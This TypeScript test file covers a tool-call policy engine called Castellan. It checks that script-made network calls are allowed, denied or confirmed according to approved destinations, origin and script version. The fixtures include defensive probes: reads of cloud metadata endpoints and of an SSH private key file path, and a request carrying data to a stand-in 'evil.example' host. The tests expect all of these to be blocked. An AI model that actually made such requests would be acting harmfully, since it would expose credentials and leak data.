// What a script does by itself is judged like what anybody does: by its effects, its rules, and by which script it is.
import { type CallScript, NEW_SESSION } from '@castellan/contract';
import { expect, test } from 'vitest';
import { analyse, compilePolicy, decide, suggestGrants, summarise, taskGrant } from '../src/index.ts';
import { call, DIGEST, FACTS, grant, KIT, NOW, policy, rule, shippedPolicy, shippedSource } from './fixtures.ts';

const shipped = shippedPolicy();
const script: CallScript = { name: 'nightly', digest: DIGEST, run: 'run_000001' };

function outcome(tool: string, url: string): string {
  const made = call('scripts', tool, { method: 'GET', url }, { origin: 'script', script });
  const effects = analyse(made, shipped, FACTS);
  return decide({ call: made, effects, policy: shipped, session: NEW_SESSION, grants: [], now: NOW }).outcome;
}

test('it may look where it was approved to, and no approval reaches a metadata service', () => {
  expect(outcome('http_read', 'https://api.example.org/v1')).toBe('allow');
  expect(outcome('http_read', 'http://127.0.0.1:3000/')).toBe('allow');
  expect(outcome('http_read', 'http://169.254.169.254/latest/meta-data/')).toBe('deny');
  expect(outcome('http_read', 'http://metadata.google.internal/')).toBe('deny');
  expect(outcome('http_read', 'file:///home/user/.ssh/id_ed25519')).not.toBe('allow');
  expect(outcome('http_read', 'not an address')).not.toBe('allow');
});

test('what it sends to another machine is shown to a person, to this one it is not', () => {
  expect(outcome('http_send', 'https://api.example.org/v1')).toBe('confirm');
  expect(outcome('http_send', 'http://127.0.0.1:3000/')).toBe('allow');
});

test('a card says what it asks for', () => {
  const made = call('scripts', 'http_send', { method: 'POST', url: 'https://api.example.org/v1' }, { script });
  expect(summarise(made, [], shipped).summary).toBe('“POST” “https://api.example.org/v1”');
});

test('a rule knows which script it is about', () => {
  const own = policy({ rules: [rule({ outcome: 'deny', if: 'call.script == "nightly"' })] });
  const judged = (by: CallScript | undefined) => {
    const made = call('kit', 'look', {}, by === undefined ? {} : { origin: 'script', script: by });
    return decide({ call: made, effects: [], policy: own, session: NEW_SESSION, grants: [], now: NOW }).reasons[0]?.id;
  };
  expect(judged(script)).toBe('R1');
  expect(judged(undefined)).not.toBe('R1');
});

test('what scripts do by themselves nobody else does, whatever they call themselves', () => {
  const judged = (tool: string, change: object) => {
    const made = call('scripts', tool, { method: 'GET', url: 'https://evil.example/?d=x' }, change);
    const effects = analyse(made, shipped, FACTS);
    const given = [grant({ module: 'scripts', tool })];
    return decide({ call: made, effects, policy: shipped, session: NEW_SESSION, grants: given, now: NOW });
  };
  for (const tool of ['http_read', 'http_send', 'anything']) {
    for (const origin of ['hook', 'api', 'mcp', 'terminal', 'schedule', 'script'] as const)
      expect(judged(tool, { origin }).outcome, `${tool} ${origin}`).toBe('deny');
    expect(judged(tool, { origin: 'mcp', script }).outcome).toBe('deny');
  }
  expect(judged('http_read', { origin: 'hook' }).reasons[0]).toMatchObject({ source: 'module-deny', id: 'scripts' });
  expect(judged('http_read', { origin: 'script', script }).outcome).toBe('allow');
});

test("no module of one's own takes the name of Castellan's own tools", () => {
  const named = (name: string) => {
    const { manifests, ...rest } = shippedSource();
    const manifest = { ...KIT, name, aliases: [] };
    const own = { manifest, digest: DIGEST, source: `modules/${name}.yaml`, shipped: false };
    return compilePolicy({ ...rest, manifests: [...manifests, own] });
  };
  for (const name of ['scripts', 'castellan']) {
    const compiled = named(name);
    expect(compiled.ok ? [] : compiled.faults.map(({ path }) => path)).toEqual([`modules/${name}.yaml`]);
  }
  expect(named('mine').ok).toBe(true);
});

test('what is granted on the card of a script is granted to that version of it, and to nothing else', () => {
  const by = (change: Partial<CallScript> | null) =>
    call(
      'kit',
      'once',
      { path: 'a.txt' },
      change === null ? {} : { origin: 'script', script: { ...script, ...change } },
    );
  const own = policy();
  const made = by({});
  const effects = analyse(made, own, FACTS);
  const verdict = decide({ call: made, effects, policy: own, session: NEW_SESSION, grants: [], now: NOW });
  const task = taskGrant(made, effects, verdict, own);
  const offered = [...suggestGrants(made, effects, verdict, own), ...(task === null ? [] : [task])];
  expect(offered.length).toBeGreaterThan(2);
  for (const { grant: asked, text } of offered) {
    const { uses, minutes: _, ...rest } = asked;
    const given = grant({ ...rest, usesLeft: uses });
    const covered = (other: ReturnType<typeof by>) =>
      decide({ call: other, effects, policy: own, session: NEW_SESSION, grants: [given], now: NOW }).outcome;
    expect(text).toContain('nightly');
    expect(covered(by({ run: 'run_000002' })), text).toBe('allow');
    expect(covered(by({ digest: `sha256:${'1'.repeat(64)}` })), text).not.toBe('allow');
    expect(covered(by({ name: 'other' })), text).not.toBe('allow');
    expect(covered(by(null)), text).not.toBe('allow');
  }
});
